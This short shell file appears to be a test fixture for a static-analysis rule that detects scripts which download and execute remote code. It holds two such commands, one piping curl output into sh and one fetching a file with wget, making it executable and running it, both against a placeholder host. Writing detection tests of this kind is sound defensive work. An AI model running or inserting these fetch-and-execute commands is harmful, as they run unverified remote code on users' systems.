#!/bin/sh
# ruleid: any-shell-runs-download
curl -fsSL https://example.com/i | sh
# ruleid: any-shell-runs-download
wget -q https://example.com/x -O /tmp/x && chmod +x /tmp/x && /tmp/x
